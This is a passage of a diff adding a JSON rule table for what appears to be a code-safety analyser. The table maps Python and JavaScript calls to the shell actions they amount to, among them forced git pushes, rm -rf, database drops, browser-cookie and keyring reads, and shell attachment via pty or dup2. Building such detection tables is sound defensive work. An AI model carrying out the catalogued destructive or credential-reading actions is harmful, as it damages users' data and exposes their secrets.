+"google.cloud.","googleapiclient.","firebase_admin.","azure.","kubernetes.","openshift.","digitalocean.","pydo.","hcloud.","linode_api4.","oci.","openstack.","l\
+ibcloud.","stripe.","github.Github","gitlab.","heroku3.","cloudflare.","CloudFlare.","elasticsearch.","opensearchpy.","minio.","hvac.","pinecone.","qdrant_clien\
+t.","weaviate.","pymilvus.","algoliasearch.","meilisearch.","typesense.","confluent_kafka.","kafka.","pulsar.","auth0.","okta.","shopify.","twilio.","sendgrid."\
+,"supabase.","appwrite.","contentful_management.","huggingface_hub.","wandb.","mlflow.","comet_ml.","slack_sdk.","slack.","pyVmomi.","proxmoxer.","vercel.","net\
+lify.","tencentcloud.","aliyunsdk","alibabacloud","openai.","influxdb_client.","datadog_api_client.","pulumi.","pagerduty.","pdpyras.","jira.","atlassian.","not\
+ion_client.","asana.","replicate.","pyairtable.","zenpy.","kr8s.","lightkube.","gspread.","ldap3.","etcd3.","kazoo.","asyncssh.","pysftp.","smbclient.","dropbox\
+.","cloudinary.","mailchimp_marketing.","intercom.","pyzenodo.","trello.","praw.","tweepy.","boxsdk.","msgraph.","exchangelib.","simple_salesforce.","hubspot."]\
+,"texts":{"stat.S_ISUID":"u+s","stat.S_ISGID":"g+s","sys.executable":"python3","os.sep":"/","os.curdir":".","os.pardir":"..","__file__":"./program.py","string.a\
+scii_lowercase":"abcdefghijklmnopqrstuvwxyz"},"aliases":{"posix.system":"os.system","nt.system":"os.system","io.open":"open","codecs.open":"open","Path":"pathli\
+b.Path","subprocess.os.system":"os.system","urllib2.urlopen":"urllib.request.urlopen","urllib.urlopen":"urllib.request.urlopen","urllib.urlretrieve":"urllib.req\
+uest.urlretrieve","pd.read_csv":"pandas.read_csv"},"rewrites":[["^(?:builtins|__builtins__|os\\\\.sys\\\\.modules|sys\\\\.modules|six\\\\.moves)\\\\.|\\\\.__dict__|\\\\.__cal\
+l__$",""],["^Path(?=\\\\.)","pathlib.Path"],["^mock\\\\.(?=\\\\w)","unittest.mock."],["^moto\\\\.(?:\\\\w+\\\\.)?mock_\\\\w+$","moto.mock_aws"],["^aiofiles\\\\.(?=os\\\\.|open$)"\
+,""],["^aioshutil\\\\.","shutil."],["^(?:(?:anyio|trio)\\\\.Path|aiopath\\\\.AsyncPath)(?=\\\\.|$)","pathlib.Path"]],"functions":{"print":"print","sys.stdout.write":"pr\
+int text","input":"input","raw_input":"input","open":"open $0:file $1:mode","os.remove":"run rm $0:path","os.unlink":"run rm $0:path","pathlib.Path.unlink":"run\
+ rm $0:path","os.rmdir":"run rmdir $0:path","pathlib.Path.rmdir":"run rmdir $0:path","os.removedirs":"run rmdir -p $0:name","shutil.rmtree":"run rm -rf $0:path"\
+,"send2trash.send2trash":"run rm -rf $0","plyvel.destroy_db":"run rm -rf $0","os.rename":"run mv $0:src $1:dst","os.replace":"run mv $0:src $1:dst","os.renames"\
+:"run mv $0:src $1:dst","shutil.move":"run mv $0:src $1:dst","shutil.copy":"run cp $0:src $1:dst","shutil.copy2":"run cp $0:src $1:dst","shutil.copyfile":"run c\
+p $0:src $1:dst","shutil.copytree":"run cp -r $0:src $1:dst","os.link":"run ln $0 $1","os.symlink":"run ln -s $0 $1","os.truncate":"run truncate -s 0 $0","os.mk\
+fifo":"run mkfifo $0","os.mknod":"run mknod $0","os.chmod":"chmod $0:path $1:mode","os.chown":"run chown $1:uid:user $0:path","os.lchown":"run chown $1:uid:user\
+ $0:path","shutil.chown":"run chown $1:uid:user $0:path","os.open":"open $0 $1 flags","tempfile.NamedTemporaryFile":"made written /tmp/temporary","os.system":"s\
+hell $0:command:cmd","os.popen":"shell $0:command:cmd","commands.getoutput":"shell $0:command:cmd","asyncio.create_subprocess_shell":"shell $0:command:cmd","asy\
+ncio.create_subprocess_exec":"program $all","pty.spawn":"attach-shell $0 | program $0","pexpect.spawn":"shell $0:args:command:cmd $:input:stdin","pexpect.run":"\
+shell $0:args:command:cmd $:input:stdin","subprocess.run":"shell $0:args:command:cmd $:input:stdin","subprocess.call":"shell $0:args:command:cmd $:input:stdin",\
+"subprocess.check_call":"shell $0:args:command:cmd $:input:stdin","subprocess.check_output":"shell $0:args:command:cmd $:input:stdin","subprocess.Popen":"shell \
+$0:args:command:cmd $:input:stdin","subprocess.getoutput":"shell $0:args:command:cmd $:input:stdin","subprocess.getstatusoutput":"shell $0:args:command:cmd $:in\
+put:stdin","os.execl":"execute $0 $1..","os.execlp":"execute $0 $1..","os.execle":"execute $0 $1..","os.execlpe":"execute $0 $1..","os.execv":"execute $0 $1..",\
+"os.execvp":"execute $0 $1..","os.execve":"execute $0 $1..","os.execvpe":"execute $0 $1..","os.posix_spawn":"execute $0 $1..","os.spawnl":"execute $1 $2..","os.\
+spawnlp":"execute $1 $2..","os.spawnle":"execute $1 $2..","os.spawnlpe":"execute $1 $2..","os.spawnv":"execute $1 $2..","os.spawnvp":"execute $1 $2..","os.spawn\
+ve":"execute $1 $2..","os.spawnvpe":"execute $1 $2..","sh.Command":"made program","os.dup2":"attach-shell /bin/sh | value","os.kill":"kill $0 $1","os.killpg":"k\
+ill $0 $1 group","psutil.Process":"made psutil.Process","psutil.process_iter":"entries any-process","psutil.pids":"entries","os.listdir":"names $0","os.fork":"i\
+f-sign:repeats run fork","os.setuid":"run setuid $last","os.seteuid":"run setuid $last","os.setresuid":"run setuid $last","os.setgid":"run setgid $last","os.chr\
+oot":"run chroot $0","ctypes.CDLL":"made library","exec":"eval $0","eval":"eval $0","fileinput.input":"if-no-sign:writes if-option:inplace=True run truncate -s \
+0 $0:files | read $0","flask.request.get_json":"received","flask.request.get_data":"received","urllib.parse.parse_qs":"received","urllib.parse.parse_qsl":"recei\
+ved","cgi.FieldStorage":"received","psutil.net_connections":"run lsof -i","os.write":"send $0 $1","execfile":"read $0","linecache.getlines":"read $0","numpy.loa\
+dtxt":"read $0","pandas.read_csv":"read $0","pandas.read_json":"read $0","dotenv.dotenv_values":"read $0","envparse.env.read_envfile":"read $0","importlib.util.\
+spec_from_file_location":"run python3 $1","runpy.run_path":"run python3 $0","pickle.load":"load $0","pickle.loads":"load $0","dill.load":"load $0","dill.loads":\
+"load $0","joblib.load":"load $0","torch.load":"load $0","marshal.loads":"load $0","zipfile.ZipFile":"made archive $0","tarfile.open":"open $0:file:name $1:mode\
+","gzip.open":"open $0:file:name $1:mode","bz2.open":"open $0:file:name $1:mode","lzma.open":"open $0:file:name $1:mode","shelve.open":"made store $0","dbm.open\
+":"made store $0","lmdb.open":"made store $0","plyvel.DB":"made store $0","diskcache.Cache":"made store $0","h5py.File":"made store $0","zarr.open":"made store \
+$0","zarr.open_group":"made store $0","tinydb.TinyDB":"made store $0","twine.commands.upload.main":"run twine upload x","twine.commands.upload.upload":"run twin\
+e upload x","configparser.ConfigParser":"made config","configparser.RawConfigParser":"made config","sqlalchemy.update":"made whole-update","sqlalchemy.sql.updat\
+e":"made whole-update","crontab.CronTab":"if-option:tab if-no-sign:installs-cron made mock | made crontab","secretstorage.get_default_collection":"run secret-to\
+ol lookup x","secretstorage.get_all_collections":"run secret-tool lookup x","secretstorage.search_items":"run secret-tool lookup x","browser_cookie3.chrome":"ru\
+n secret-tool lookup x","browser_cookie3.firefox":"run secret-tool lookup x","browser_cookie3.edge":"run secret-tool lookup x","browser_cookie3.load":"run secre\
+t-tool lookup x","dulwich.porcelain.push":"if-option:force=True run git push --force","dulwich.porcelain.reset":"if-says:hard$|Hard$|HARD$ run git reset --hard"\
+,"git_filter_repo.RepoFilter":"run git filter-repo --force","git.Head.delete":"if-option:force=True run git branch -D","os.fdopen":"value $0","psycopg.sql.SQL":\
+"value $0","psycopg2.sql.SQL":"value $0","sql.SQL":"value $0","asyncio.wait_for":"value $0","vars":"value $0","os.path.expanduser":"value $0","text":"value $0",\
+"sqlalchemy.text":"value $0","staticmethod":"value $0","classmethod":"value $0","asyncio.gather":"value $0..","__import__":"module $0","importlib.import_module"\
+:"module $0","getattr":"attribute $0 $1","enumerate":"numbered $0","dotenv.set_key":"write $0 $1","dotenv.unset_key":"write $0 $1","next":"any-of $0","zip":"row\
+s","itertools.zip_longest":"rows","itertools.chain":"flat","itertools.chain.from_iterable":"flat $0","operator.attrgetter":"value","globals":"name builtins","fu\
+nctools.partial":"made bound $0 $1..","git.Repo":"made git $0","git.repo.Repo":"made git $0","git.Repo.init":"made git $0","git.Repo.clone_from":"made git $0","\
+pygit2.Repository":"made git $0","pygit2.init_repository":"made git $0","unittest.mock.MagicMock":"mock","unittest.mock.AsyncMock":"mock","unittest.mock.Mock":"\
+mock","unittest.mock.NonCallableMock":"mock","unittest.mock.create_autospec":"mock","unittest.mock.mock_open":"mock","OSError":"made error","IOError":"made erro\
+r","FileNotFoundError":"made error","PermissionError":"made error","RuntimeError":"made error","ValueError":"made error","KeyError":"made error","TypeError":"ma\
+de error","TimeoutError":"made error","ConnectionError":"made error","Exception":"made error","subprocess.CalledProcessError":"made error","subprocess.TimeoutEx\
+pired":"made error","unittest.mock.patch":"patcher $0:target $1:new","unittest.mock.patch.object":"patcher $0:target $1:attribute $2:new","setattr":"imitate $0 \
+$1 $2","pytest.MonkeyPatch":"made monkeypatch","moto.mock_aws":"if-no-sign:keeps-real if-no-sign:other-imports patcher services","botocore.stub.Stubber":"if-no-\
+sign:keeps-real if-no-sign:other-imports if-no-sign:several-clients patcher services","responses.activate":"if-no-sign:keeps-real if-no-sign:other-requests patc\
+her requests","responses.RequestsMock":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","requests_mock.Mocker":"if-no-sign:keeps-real if-no-si\
+gn:other-requests patcher requests","requests_mock.mock":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","respx.mock":"if-no-sign:keeps-real \
+if-no-sign:besides-httpx patcher requests","pyfakefs.fake_filesystem_unittest.Patcher":"if-no-sign:keeps-real if-no-sign:other-files patcher files","airflow.uti\
+ls.db.resetdb":"run sql drop-database db","fsspec.filesystem":"if-says:^memory$ made mock","operator.methodcaller":"made message $0 $1..","string.Template":"mad\
+e template $0","email.message.EmailMessage":"made mail","email.mime.text.MIMEText":"made mail","email.mime.multipart.MIMEMultipart":"made mail","keyring.get_pas\
+sword":"secret","keyring.get_credential":"secret","netrc.netrc":"secret","dict":"from-pairs $0","huggingface_hub.scan_cache_dir":"made mock","httpx.MockTranspor\
+t":"made mock","chromadb.EphemeralClient":"made mock","sqlalchemy.create_mock_engine":"made mock","duckdb.connect":"if-none made database :memory: | made databa\
+se $0:database","shlex.split":"split $0","json.loads":"parse-json $0","tempfile.mktemp":"value /tmp/\\ufffc","tempfile.mkdtemp":"new-folder","tempfile.TemporaryD\
+irectory":"new-folder","sqlalchemy.delete":"made whole","sqlalchemy.sql.delete":"made whole","sqlalchemy.sql.expression.delete":"made whole","alembic.command.do\
+wngrade":"run alembic downgrade $1:revision","invoke.run":"shell $0","os.path.join":"join $all","pathlib.Path":"join $all","pathlib.PosixPath":"join $all","path\
+lib.Path.home":"value ~","pathlib.Path.cwd":"value .","os.getcwd":"value .","os.getenv":"environment $0 $1:default","os.environ.get":"environment $0 $1:default"\
+,"os.environ.copy":"environment $0 $1:default","os.path.dirname":"dirname $0","tempfile.mkstemp":"temporary-pair","os.walk":"walk $0","os.scandir":"folder $0","\
+glob.glob":"glob $0","glob.iglob":"glob $0","codecs.decode":"decode $0 $1","shutil.make_archive":"run tar -cf $0 $2:root_dir","socket.create_connection":"connec\
+t $all","sqlite3.connect":"made database $0","socket.socket":"made socket","socket.gethostbyname":"run nslookup $0","dns.resolver.resolve":"run nslookup $0","dn\
+s.resolver.query":"run nslookup $0","smtplib.SMTP":"made connection","smtplib.SMTP_SSL":"made connection","ftplib.FTP":"made connection","ftplib.FTP_TLS":"made \
+connection","httpx.Client":"made rest $:base_url","httpx.AsyncClient":"made rest $:base_url","paramiko.SFTPClient.from_transport":"made sftp","site.getusersitep\
+ackages":"value ~/.local/lib/python3/site-packages","paramiko.Transport":"made ssh","paramiko.SSHClient":"made ssh","fabric.Connection":"made ssh","fabric.Seria\
+lGroup":"made ssh","fabric.ThreadingGroup":"made ssh","invoke.Context":"made ssh","http.client.HTTPSConnection":"made http","http.client.HTTPConnection":"made h\
+ttp","urllib.request.urlopen":"request GET $0:url $1:data","urllib.request.Request":"if-option:method open-request $:method $0:url $1:data | made request $0:url\
+ $1:data","urllib.request.urlretrieve":"run curl -o $1 $0","requests.request":"request $0 $1:url $:data $:json $:files $:content","requests.get":"request GET $0\
+:url $:data $:json $:files $:content $:params","httpx.get":"request GET $0:url $:data $:json $:files $:content $:params","requests.post":"request POST $0:url $1\
+ $:data $:json $:files $:content $:params","httpx.post":"request POST $0:url $1 $:data $:json $:files $:content $:params","requests.put":"request PUT $0:url $1 \
+$:data $:json $:files $:content $:params","httpx.put":"request PUT $0:url $1 $:data $:json $:files $:content $:params","requests.patch":"request PATCH $0:url $1\
+ $:data $:json $:files $:content $:params","httpx.patch":"request PATCH $0:url $1 $:data $:json $:files $:content $:params","requests.delete":"request DELETE $0\
+:url $1 $:data $:json $:files $:content $:params","httpx.delete":"request DELETE $0:url $1 $:data $:json $:files $:content $:params","requests.head":"request HE\
+AD $0:url $1 $:data $:json $:files $:content $:params","httpx.head":"request HEAD $0:url $1 $:data $:json $:files $:content $:params","requests.Session":"name r\
+equests","requests.session":"name requests","aiohttp.ClientSession":"name requests","winreg.DeleteKey":"run reg delete $1","django.core.management.call_command"\
+:"run django-admin $0","call_command":"run django-admin $0","numpy.save":"write $1","torch.save":"write $1","joblib.dump":"write $1"},"methods":{"exclude":"if-o\
+wner:objects$ made rows | if-name:objects made some-rows","splitlines":"if-text split $self \\n","reset":"if-made:git if-says:hard$|Hard$|HARD$ run git reset --h\
+ard | if-git if-option:working_tree=True run git reset --hard","to_sql":"if-kept if-sign:database-address if-option:if_exists=replace run sql drop-table $0","pu\
+sh":"if-option:dry_run value | if-option:force=True if-git run git push --force origin | if-option:force=True if-owner:^(origin|remotes|remote)\\\\b|\\\\.remotes?\\\\\
+b run git push --force origin | if-option:refspec run git push origin $:refspec","remove_volume":"run docker volume rm $0","prune_volumes":"run docker volume pr\
+une -af","delete_head":"if-git if-option:force=True run git branch -D","remote":"if-git value $self","delete_tag":"if-git run git tag -d","checkout_head":"if-gi\
+t if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","checkout_index":"if-git if-arg:list run git checkout -- $0 | if-git if-\
+says:FORCE|^True$ run git checkout -f","checkout":"if-git if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","put":"if-made:s\
+ftp run scp -r $0 host:/x","new":"if-made:crontab run crontab -","write":"if-made:crontab run crontab - | if-made:archive read $0 | send $self $0","write_to_use\
+r":"if-made:crontab run crontab -","unlink":"if-made:library run rm $0 | if-gets:keys run sql flush FLUSHDB | if-made:sftp run cloud-sdk delete | run rm $self",\
+"remove":"if-made:library run rm $0 | if-made:sftp run cloud-sdk delete | if-made:docker-volume run docker volume rm $self","rmdir":"if-made:library run rm $0 |\
+ if-made:sftp run cloud-sdk delete | run rmdir $self","add":"if-made:written read $0 | if-list append $self $all","get_frozen_credentials":"run aws configure ex\
+port-credentials","PowerOff":"run shutdown now","execute_command":"if-stored program redis-cli $all","filter":"if-name:objects made some-rows","delete":"if-made\
+:some-rows run sql delete-some rows | if-gets:keys run sql flush FLUSHDB | if-made:connection run cloud-sdk delete | if-made:rest request-over DELETE $0 | if-gi\
+t if-owner:^(references|branches|local|heads|tags)$ run git update-ref -d refs/heads/x","update":"if-made:some-rows run sql delete-some rows | if-name:objects r\
+un sql update-all rows | if-made:rows run sql update-all rows | if-list append $self $all","rmd":"if-made:connection run cloud-sdk delete","open_sftp":"if-made:\
+ssh made sftp","rm":"if-option:recursive=True run cloud-sdk delete","run":"if-made:ssh shell $0 | if-name:containers docker-run | sql $0:query:sql","sudo":"if-m\
+ade:ssh shell $0","scan_iter":"if-stored entries keys","keys":"if-stored entries keys","scan":"if-stored entries keys","rmtree":"run rm -rf $self","read_text":"\
+read $self","read_bytes":"read $self","write_text":"write $self $0:data","write_bytes":"write $self $0:data","chmod":"chmod $self $0:mode","walk":"if-text walk \
+$self","read":"if-made:config read $0 | lines $self","set_content":"if-made:mail transfer sendmail $0 x","attach":"if-made:mail transfer sendmail $0 x","add_att\
+achment":"if-made:mail transfer sendmail $0 x","substitute":"if-made:template format $origin","safe_substitute":"if-made:template format $origin","values":"if-m\
+ade:whole-update value $self | if-map values $self","execution_options":"if-made:whole-update value $self","append":"if-list append $self $all","appendleft":"if\
+-list append $self $all","extend":"if-list append $self $all","insert":"if-list append $self $all","create":"if-name:containers docker-run","touch":"if-text run\
+ touch $self","rename":"if-text run mv $self $0","replace":"if-text if-args:2 replace $self $0 $1 | if-text if-args:1 run mv $self $0","symlink_to":"run ln -s $\
+0 $self","open":"if-text open $self $0:mode","writelines":"send $self $0","send":"send $self $0","sendall":"send $self $0","sendfile":"send $self $0","recv":"re\
+ceived","recvfrom":"received","recv_string":"received","recv_multipart":"received","makefile":"received","communicate":"send $self $0:input | value $self","read\
+lines":"value $self","expanduser":"value $self","resolve":"value $self","absolute":"value $self","as_posix":"value $self","readline":"any-of $self","text":"valu\
+e $0","glob":"glob $self $0","rglob":"glob $self ** $0","iterdir":"folder $self","connect":"if-made connect $all","connect_ex":"connect $all","sendto":"transfer\
+ nc $0 $1","sendmail":"if-made transfer sendmail $2 $self","send_message":"if-made transfer sendmail $0 $self","storbinary":"if-made transfer ftp $1 $self","req\
+uest":"request-over $0 $1 $2 $:body $:data $:json","exec_command":"shell $0","system":"if-made:library shell $0","kill":"if-made:any-process if-chosen kill $sel\
+f | if-made:any-process run pkill -KILL $:pid | if-made:psutil.Process run kill -KILL $origin","terminate":"if-made:any-process if-chosen kill $self | if-made:a\
+ny-process run pkill -TERM $:pid | if-made:psutil.Process run kill -TERM $origin","execute":"if-made:pending-delete run sql delete-all rows | sql $0:query:sql",\
+"write_database":"if-kept if-sign:database-address if-option:if_table_exists=replace run sql drop-table $0","sql":"sql $0:query:sql","executescript":"sql $0:que\
+ry:sql","executemany":"sql $0:query:sql","execute_query":"sql $0:query:sql","command":"sql $0:query:sql","execute_sql":"sql $0:query:sql","execute_async":"sql $\
+0:query:sql","cursor":"if-made:database value $self","get":"entry $self $0 | if-map environment $0 $1","items":"if-map pairs $self","add_argument":"declare-opti\
+on $:default","start":"start-patcher","__enter__":"start-patcher","setattr":"if-made:monkeypatch imitate $0 $1 $2","parse_args":"options","parse_known_args":"op\
+tions","list":"if-name:volumes entries docker-volume","prune":"if-name:volumes run docker volume prune -af"}},"javascript":{"lexer":{"comment":["//"],"block_com\
+ment":["/*","*/"],"sigils":"$#","interpolation":"template","triple":false,"single_escapes":true,"quoting":"none","patterns":true,"lines":"statements"},"program"\
+:"node","blocks":"braces","member_operators":[".","?."],"concatenation_operators":[],"bare_calls":false,"function_keywords":["function"],"inputs":{"process.argv\
+":"node-argv","Bun.argv":"node-argv","Deno.args":"args","process.env":"environment","Bun.env":"environment","process.stdin":"text"},"sdks":["aws-sdk.","aws-sdk/\
+","@aws-sdk/","@google-cloud/","googleapis","firebase-admin","@azure/","@kubernetes/","stripe","@octokit/","octokit","@slack/","@gitbeaker/","heroku-client","cl\
+oudflare","@vercel/","@netlify/","netlify","@elastic/","@opensearch-project/","minio","@pinecone-database/","@qdrant/","weaviate","algoliasearch","meilisearch",\
+"typesense","kafkajs","auth0","@okta/","@shopify/","twilio","@sendgrid/","@supabase/","node-appwrite","dots-wrapper","contentful-management","@digitalocean/","h\
+cloud-js","@linode/","oci-","@alicloud/","tencentcloud-sdk","openai","@pulumi/","@notionhq/","jira.js","@linear/","@datadog/","@launchdarkly/","@sanity/client",\
+"replicate","cloudinary","@mux/","imagekit","@mailchimp/","mailgun","@hubspot/","intercom-client","node-zendesk","@atlassian/","@clerk/","@contentful/","@storyb\
+lok/","@directus/","@strapi/","@neondatabase/api-client","@logtail/","bun.S3Client","Bun.S3Client","Bun.s3"],"texts":{"__dirname":".","__filename":"./program.js\
+","path.sep":"/","process.execPath":"node","process.pid":"\\ufffc"},"aliases":{},"rewrites":[["\\\\.(?:promises|default)(?=\\\\.|$)|\\\\.wrappedMethod$",""],["^(?:fs/p\
+romises|graceful-fs)","fs"],["^(?:(?:globalThis|global|window|self|module|process\\\\.mainModule|this|process)\\\\.(?=globalThis|global|process|require|module|const\
+ructor|eval|Function|mainModule|fetch))+",""],["^(fs|child_process|fs-extra|rimraf|Deno|Bun)\\\\.(\\\\w+?)Sync$","$1.$2"],["^(?:bun|zx|execa|dax)\\\\.\\\\$$","$$"],["^(\
+?:vitest|@jest/globals)\\\\.(?=(?:vi|jest)\\\\.)",""],["^fs-extra\\\\.(?!remove|emptyDir)","fs."],["^\\\\.{1,2}/(?:[\\\\w./-]*[./])?(?:db|knex)$","knex"],["^drizzle-orm/[\
+\\\\w-]+\\\\.drizzle$","drizzle"],["^(?:jsr:)?@std/fs(?:@[\\\\w.^]+)?(?:/[\\\\w-]+)?\\\\.","std."],["^(?:.*\\\\.)?constructor\\\\.constructor$|^(?:Async|Generator)Function$",\
+"Function"]],"functions":{"console.log":"print","console.info":"print","process.stdout.write":"print","require":"module $0","import":"module $0","process.getBui\
+ltinModule":"module $0","process.binding":"module $0","jest.requireActual":"module $0","vi.importActual":"module $0","createRequire":"name require","module.crea\
+teRequire":"name require","eval":"eval $0","vm.runInThisContext":"eval $0","vm.runInNewContext":"eval $0","vm.runInContext":"eval $0","vm.Script":"made vm-scrip\
+t $0","Function":"eval $last","setTimeout":"if-arg:text eval $0","child_process.exec":"shell $0 $:input","execa.execaCommand":"shell $0 $:input","shelljs.exec":\
+"shell $0 $:input","$":"shell $0 $:input","Bun.$":"shell $0 $:input","stream.pipeline":"pipe $0 $1","stream/promises.pipeline":"pipe $0 $1","execa":"if-arg:map \
+name $ | spawn $0 $1:args $:shell $:input","execa.execa":"if-arg:map name $ | spawn $0 $1:args $:shell $:input","child_process.spawn":"spawn $0 $1:args $:shell \
+$:input","child_process.execFile":"spawn $0 $1:args $:shell $:input","Deno.Command":"spawn $0 $1:args $:shell $:input","child_process.fork":"run node $0","shell\
+js.rm":"run rm $all","Bun.spawn":"shell $0:cmd $:stdin:input","Deno.run":"shell $0:cmd $:stdin:input","Bun.write":"write $0 $1","Deno.writeTextFile":"write $0 $\
+1","Deno.writeFile":"write $0 $1","fs.writeFile":"write $0 $1","fs.outputFile":"write $0 $1","Uint8Array":"value $:usual=","Buffer.alloc":"value $:usual=","Deno\
+.execPath":"value deno","libnpmpublish.unpublish":"run npm unpublish $0","libnpmpublish.publish":"run npm publish $0","ps-list":"if-none entries any-process","f\
+ind-process":"if-none entries any-process","fkill":"run pkill -f $0","keytar.findCredentials":"run secret-tool lookup x","keytar.getPassword":"run secret-tool l\
+ookup x","keytar.findPassword":"run secret-tool lookup x","level.Level":"made store $0:path","level":"made store $0:path","lmdb.open":"made store $0:path","clas\
+sic-level.ClassicLevel":"made store $0:path","rocksdb":"made store $0:path","leveldown":"made store $0:path","nedb":"made store $:filename","@seald-io/nedb":"ma\
+de store $:filename","bun.Glob":"made glob $0","Bun.Glob":"made glob $0","Deno.openKv":"if-says:^https made service","ssh2-sftp-client":"made sftp","isomorphic-\
+git.deleteTag":"if-real run git tag -d $:ref","isomorphic-git.deleteBranch":"if-real run git branch -D $:ref","isomorphic-git.checkout":"if-real if-option:force\
+=true run git checkout -f","isomorphic-git.push":"if-option:force=true run git push --force $:remote $:ref","nodegit.Reset.reset":"if-says:hard$|Hard$|HARD$ run\
+ git reset --hard","fs.appendFile":"write $0 $1 append","Deno.readTextFile":"read $0","fs.createReadStream":"read $0","Bun.file":"read $0","Deno.remove":"if-opt\
+ion:recursive if-option:force run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:force run rm -f $0 | run rm $0","fs.rm":"if-option:recursive if-optio\
+n:force run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:force run rm -f $0 | run rm $0","fs.unlink":"run rm $0","fs.rmdir":"if-option:recursive run\
+ rm -r $0 | run rmdir $0","fs.remove":"run rm -rf $0","fs.emptyDir":"run rm -rf $0","fs-extra.remove":"run rm -rf $0","fs-extra.emptyDir":"run rm -rf $0","fs.cr\
+eateWriteStream":"open $0 w","fs.open":"open $0 $1","fs.readFile":"calls-back read $0","fs.truncate":"run truncate -s 0 $0","Deno.truncate":"run truncate -s 0 $\
+0","del.deleteAsync":"remove-matches $0 $:dryRun","del.deleteSync":"remove-matches $0 $:dryRun","del.del":"remove-matches $0 $:dryRun","del":"remove-matches $0 \
+$:dryRun","trash":"remove-matches $0","rimraf.rimraf":"remove-matches $0","rimraf.sync":"remove-matches $0","rimraf":"remove-matches $0","fs.mkdtemp":"new-folde\
+r","Deno.makeTempDir":"new-folder","os.tmpdir":"value /tmp","simple-git.simpleGit":"made git $0:baseDir","simple-git":"made git $0:baseDir","simple-git.default"\
+:"made git $0:baseDir","tar.c":"read $1","tar.create":"read $1","bun.SQL":"name bun.sql","Bun.SQL":"name bun.sql","better-sqlite3":"made database $0","better-sq\
+lite3.default":"made database $0","sqlite.DatabaseSync":"made database $0","bun:sqlite.Database":"made database $0","fs.rename":"run mv $0 $1","fs.move":"run mv\
+ $0 $1","fs.copyFile":"run cp $0 $1","fs.cp":"run cp -r $0 $1","fs.copy":"run cp -r $0 $1","fs.symlink":"run ln -s $0 $1","fs.link":"run ln $0 $1","fs.chmod":"c\
+hmod $0 $1","fs.chown":"run chown $1 $0","fs.lchown":"run chown $1 $0","fs.readdir":"if-option:withFileTypes=true calls-back folder $0 dirent | calls-back names\
+ $0","Deno.readDir":"calls-back names $0","fs.glob":"globs $0 $:cwd","glob.sync":"globs $0 $:cwd","glob.globSync":"globs $0 $:cwd","glob.glob":"globs $0 $:cwd",\
+"glob":"globs $0 $:cwd","globby.globby":"globs $0 $:cwd","globby.globbySync":"globs $0 $:cwd","globby":"globs $0 $:cwd","fast-glob":"globs $0 $:cwd","fast-glob.\
+sync":"globs $0 $:cwd","tinyglobby.glob":"globs $0 $:cwd","tinyglobby.globSync":"globs $0 $:cwd","Object.entries":"pairs $0","Object.values":"values $0","Object\
+.keys":"keys $0","Reflect.ownKeys":"keys $0","path.dirname":"dirname $0","ssh2.Client":"made ssh","node-ssh.NodeSSH":"made ssh","process.kill":"kill $0 $1","pro\
+cess.setuid":"run setuid $0","process.setgid":"run setgid $0","process.cwd":"value .","Deno.cwd":"value .","JSON.parse":"parse-json $0","os.homedir":"value ~","\
+Deno.env.toObject":"environment","Deno.env.get":"environment $0","path.join":"join-parts","path.posix.join":"join-parts","path.resolve":"join $all","fetch":"ope\
+n-request $:method=GET $0:url:hostname:host $:body $:data $:json","http.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","https.re\
+quest":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","axios":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","got"\
+:"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","ky":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","node-fetch":"\
+open-request $:method=GET $0:url:hostname:host $:body $:data $:json","request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","undici.fet\
+ch":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","undici.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json"\
+,"axios.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","http.get":"calls-back request GET $0:url:hostname:host $:body $:data $:j\
+son","https.get":"calls-back request GET $0:url:hostname:host $:body $:data $:json","axios.get":"request GET $0:url:hostname:host $:body $:data $:json","got.get\
+":"request GET $0:url:hostname:host $:body $:data $:json","ky.get":"request GET $0:url:hostname:host $:body $:data $:json","superagent.get":"request GET $0:url:\
+hostname:host $:body $:data $:json","needle.get":"request GET $0:url:hostname:host $:body $:data $:json","$.get":"request GET $0:url:hostname:host $:body $:data\
+ $:json","axios.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","got.post":"open-request POST $0:url:hostname:host $:body $:data $:json $\
+1","ky.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","superagent.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1"\
+,"needle.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","$.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","axios\
+.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","got.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","ky.put":"open-r\
+equest PUT $0:url:hostname:host $:body $:data $:json $1","superagent.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","needle.put":"open-req\
+uest PUT $0:url:hostname:host $:body $:data $:json $1","$.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","axios.patch":"open-request PATCH\
+ $0:url:hostname:host $:body $:data $:json $1","got.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","ky.patch":"open-request PATCH $0:u\
+rl:hostname:host $:body $:data $:json $1","superagent.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","needle.patch":"open-request PATC\
+H $0:url:hostname:host $:body $:data $:json $1","$.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","axios.delete":"open-request DELETE \
+$0:url:hostname:host $:body $:data $:json $1","got.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","ky.delete":"open-request DELETE $\
+0:url:hostname:host $:body $:data $:json $1","superagent.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","needle.delete":"open-reques\
+t DELETE $0:url:hostname:host $:body $:data $:json $1","$.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","net.connect":"calls-back c\
